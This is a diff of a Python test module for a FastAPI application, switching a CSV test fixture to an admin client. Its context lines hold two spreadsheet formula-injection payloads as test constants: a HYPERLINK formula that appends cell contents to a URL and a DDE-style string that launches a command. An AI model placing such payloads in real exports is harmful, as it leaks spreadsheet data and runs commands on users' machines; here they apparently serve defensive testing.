@@ -13,6 +13,7 @@ from fastapi.testclient import TestClient
 
 from api.app import create_app
 from pactmatch.settings import Settings
+from tests.conftest import admin_client
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'
 AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -24,7 +25,7 @@ NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 @pytest.fixture(scope="module")
 def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
     root = tmp_path_factory.mktemp("csv")
-    c = TestClient(
+    c = admin_client(
         create_app(Settings(store=str(root / "store"), encoder="hashing", cache_dir=root / "cache"))
     )
     orgs = [
